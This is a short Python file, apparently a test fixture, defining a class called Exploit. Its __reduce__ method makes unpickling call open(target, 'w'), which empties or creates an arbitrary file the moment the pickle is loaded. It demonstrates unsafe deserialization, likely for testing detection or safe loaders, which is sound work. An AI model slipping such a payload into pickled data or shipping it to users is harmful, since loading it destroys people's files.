"""A pickle that opens a file for writing when it is loaded."""

from __future__ import annotations


class Exploit:
    def __init__(self, target: str) -> None:
        self.target = target

    def __reduce__(self) -> tuple[object, ...]:
        return open, (self.target, "w")
